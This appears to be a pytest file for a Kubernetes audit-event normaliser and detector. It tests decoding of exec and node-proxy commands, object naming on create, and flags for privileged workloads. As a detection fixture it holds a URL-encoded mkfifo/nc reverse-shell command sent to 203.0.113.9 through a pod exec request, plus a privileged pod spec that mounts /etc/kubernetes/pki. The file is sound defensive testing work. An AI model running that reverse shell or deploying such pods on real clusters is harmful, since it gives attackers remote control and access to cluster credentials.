"""The request decoders wired into normalisation: every path (per line, msgspec block, C block) gives the same
command and written-object columns, and a create's objectRef is completed from its body as kube-apiserver does."""
from __future__ import annotations

import json
from datetime import timedelta

import pytest

import features.events as events_module
from features.events import normalize_event, normalize_json_lines, rows_table
from features.flags import flag_events
from tests.factory import T0, event
from tests.features.tables import CONTEXT, event_table

REVERSE_SHELL = ("/api/v1/namespaces/web/pods/web-1/exec?command=sh&command=-c&command=rm+%2Ftmp%2Ff%3Bmkfifo+%2Ftmp%2Ff%3B"
                 "cat+%2Ftmp%2Ff%7Csh+-i+2%3E%261%7Cnc+203.0.113.9+4242+%3E%2Ftmp%2Ff&container=app")
PRIVILEGED = {"containers": [{"name": "c", "image": "alpine", "securityContext": {"privileged": True}}],
              "volumes": [{"name": "host", "hostPath": {"path": "/etc/kubernetes/pki"}}]}


def on_every_path(items: list[dict], monkeypatch):
    lines = [json.dumps(item).encode() for item in items]
    per_line = rows_table([normalize_event(item) for item in items])
    native_rows, native_positions = normalize_json_lines(lines)
    monkeypatch.setattr(events_module, "_fastnorm", None)
    msgspec_rows, msgspec_positions = normalize_json_lines(lines)
    return per_line, (native_rows, native_positions.tolist()), (msgspec_rows, msgspec_positions.tolist())


def test_exec_and_node_proxy_commands_are_decoded_alike_on_every_path(monkeypatch):
    items = [
        event(T0, audit_id="e-1", verb="create", stage="ResponseStarted", responseStatus={"code": 101}, requestURI=REVERSE_SHELL,
              objectRef={"resource": "pods", "subresource": "exec", "namespace": "web", "name": "web-1"}),
        event(T0 + timedelta(seconds=1), audit_id="e-2", verb="create", objectRef={"resource": "nodes", "subresource": "proxy",
              "name": "ip-10-0-1-5.ec2.internal"}, requestURI="/api/v1/nodes/ip-10-0-1-5.ec2.internal/proxy/run/kube-system/aws-node-x/aws-node?cmd=id"),
        event(T0 + timedelta(seconds=2), audit_id="e-3"),
    ]
    per_line, (native_rows, native_positions), (msgspec_rows, msgspec_positions) = on_every_path(items, monkeypatch)
    assert native_positions == msgspec_positions == [0, 1, 2]
    assert native_rows.equals(per_line) and msgspec_rows.equals(per_line)
    assert per_line["exec_intents"][0].as_py().startswith("reverse_shell:")
    assert (per_line["proxy_resource"][1].as_py(), per_line["proxy_class"][1].as_py(), per_line["exec_command"][1].as_py()) == (
        "nodes", "execution", "id")
    assert per_line["exec_intents"][2].as_py() is None and per_line["proxy_class"][2].as_py() is None


@pytest.mark.parametrize("verb, body", [("create", {"metadata": {"name": "node-shell", "namespace": "default"}, "spec": {}}),
                                        ("create", {"metadata": {"name": "leak"}, "data": {"k": "djE="}})])
def test_a_create_without_objectref_name_takes_the_body_name_on_every_path(monkeypatch, verb, body):
    resource = "pods" if "spec" in body else "secrets"
    raw = event(T0, verb=verb, objectRef={"resource": resource, "namespace": "default"}, requestObject=body)
    per_line, (native_rows, native_positions), (msgspec_rows, _) = on_every_path([raw], monkeypatch)
    assert per_line["name"][0].as_py() == body["metadata"]["name"]
    assert native_positions == [] or native_rows.equals(per_line)
    assert msgspec_rows.num_rows == 0 or msgspec_rows.equals(per_line)


def test_generate_name_creates_stay_without_a_name_as_in_kube_apiserver():
    raw = event(T0, verb="create", objectRef={"resource": "pods", "namespace": "web"},
                requestObject={"metadata": {"generateName": "api-7d9c-"}, "spec": {"containers": []}})
    assert normalize_event(raw)["name"] is None


def test_a_json_patch_is_judged_from_the_stored_object_and_a_controller_copy_is_left_to_the_model():
    patched = event(T0, verb="patch", objectRef={"resource": "deployments", "namespace": "checkout", "name": "api", "apiGroup": "apps"},
                    requestObject=[{"op": "add", "path": "/spec/template/spec/containers/0/securityContext", "value": {"privileged": True}}],
                    responseObject={"kind": "Deployment", "metadata": {"name": "api"}, "spec": {"template": {"spec": PRIVILEGED}}})
    copy = event(T0, verb="create", objectRef={"resource": "pods", "namespace": "checkout"},
                 user={"username": "system:serviceaccount:kube-system:replicaset-controller"},
                 requestObject={"kind": "Pod", "metadata": {"name": "api-x", "ownerReferences": [
                     {"kind": "ReplicaSet", "name": "api-7d9c", "controller": True}]}, "spec": PRIVILEGED})
    row = normalize_event(patched)
    assert (row["write_body_source"], row["pod_privileged"], row["pod_sensitive_host_paths"]) == ("response", True, "/etc/kubernetes/pki")
    flags = flag_events(event_table([patched, copy]), CONTEXT).flags
    assert flags["host_escape_workload"].tolist() == [True, False]
    assert flags["privileged_workload"].tolist() == [True, True]
